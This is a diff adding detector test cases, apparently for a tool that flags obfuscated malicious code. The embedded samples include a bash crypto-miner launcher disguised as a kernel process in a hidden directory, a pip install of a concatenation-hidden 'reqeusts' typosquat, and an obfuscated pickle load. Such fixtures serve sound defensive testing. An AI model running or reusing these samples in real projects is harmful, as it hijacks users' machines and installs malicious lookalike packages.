@@ -266,5 +266,94 @@ done
 )sh", "EXFILTRATION", SH});
 }
 
+// `local -n out=$1`: the function fills the caller's array.
+TEST(HundredAndNinetySecondRoundClasses, ANamerefIsTheVariableItNames) {
+  check_with_twin({"a miner's arguments built through a nameref", B, R"sh(
+#!/usr/bin/env bash
+declare -A POOL=([scheme]="stratum+tcp" [host]="pool.example.net" [port]="3333")
+WALLET="48jQ7cAskExampleWa11et"
+pool_url() { printf '%s://%s:%s' "${POOL[scheme]}" "${POOL[host]}" "${POOL[port]}"; }
+build_args() {
+    local -n out=$1
+    out=(-o "$(pool_url)" -u "$WALLET" --donate-level 0 --background)
+}
+start_worker() {
+    local exe="$HOME/.local/share/.kcache/kcompactd"
+    local -a args
+    build_args args
+    nohup nice -n 19 "$exe" "${args[@]}" >/dev/null 2>&1 &
+}
+start_worker
+)sh", "CRYPTO-MINER", SH},
+                  "stratum+tcp", "https", "a status endpoint in its place", L);
+}
+
+// vars(cls) of the code's own class is its body's names; getattr(cls, name)
+// with a name known only at run time is one of its data attributes; and a
+// value holding a few instances of one class keeps each apart, so each Dep
+// formats its own name.
+TEST(HundredAndNinetySecondRoundClasses, ClassTablesPickedByRunTimeNames) {
+  check_with_genuine_twin("a typosquat in a class's table of component lists", R"py(
+import argparse, subprocess, sys
+from dataclasses import dataclass
+
+@dataclass(frozen=True)
+class Dep:
+    dist: str
+    pin: str = ""
+
+    def spec(self):
+        return f"{self.dist}{self.pin}"
+
+class Components:
+    booking = [Dep("reqe" + "usts", ">=2.0"), Dep("python-dateutil"), Dep("sqlalchemy", ">=2.0")]
+    receipts = [Dep("colorama"), Dep("pillow")]
+    dashboard = [Dep("flask", ">=3.0"), Dep("jinja2")]
+
+    @classmethod
+    def names(cls):
+        return [n for n in vars(cls) if not n.startswith("_") and isinstance(getattr(cls, n), list)]
+
+ap = argparse.ArgumentParser()
+ap.add_argument("components", nargs="*")
+args = ap.parse_args()
+wanted = args.components or Components.names()
+deps = [d for name in wanted for d in getattr(Components, name)]
+subprocess.call([sys.executable, "-m", "pip", "install"] + [d.spec() for d in deps])
+)py",
+                          "\"reqe\" + \"usts\"", "\"requ\" + \"ests\"");
+}
+
+// functools.lru_cache(...)(f) does what f does: a lazily imported pickle is pickle.
+TEST(HundredAndNinetySecondRoundClasses, ACachingDecoratorIsTheFunction) {
+  check_with_twin({"pickle imported through an lru_cache'd lambda", M, R"py(
+import functools, importlib
+
+def lazy(name):
+    return functools.lru_cache(maxsize=None)(lambda: importlib.import_module(name))
+
+_store = lazy("pic" + "kle")
+with open("series.pkl", "rb") as fh:
+    data = _store().load(fh)
+print(len(data))
+)py", "UNSAFE-DESERIALIZATION"},
+                  "\"pic\" + \"kle\"", "\"js\" + \"on\"", "json imported the same way", L);
+}
+
+// An abbreviation names the same thing (CTL_API_TOKEN, CONTROLLERS), and an
+// associative array's elements are its values.
+TEST(HundredAndNinetySecondRoundClasses, AKeyAbbreviatingTheHostsTableIsItsKey) {
+  check_with_twin({"a controller API token to an address from the controllers' table", L, R"sh(
+#!/usr/bin/env bash
+declare -A CONTROLLERS=([trailer1]=198.51.100.11 [trailer2]=198.51.100.12)
+TOKEN="${CTL_API_TOKEN:-}"
+for name in "${!CONTROLLERS[@]}"; do
+  ip="${CONTROLLERS[$name]}"
+  curl -s --fail -H "Authorization: Bearer $TOKEN" -o "./logs/$name.tgz" "https://$ip/api/logs/today.tgz"
+done
+)sh", nullptr, SH},
+                  "CTL_API_TOKEN", "STL_API_TOKEN", "a token named for something else", B);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
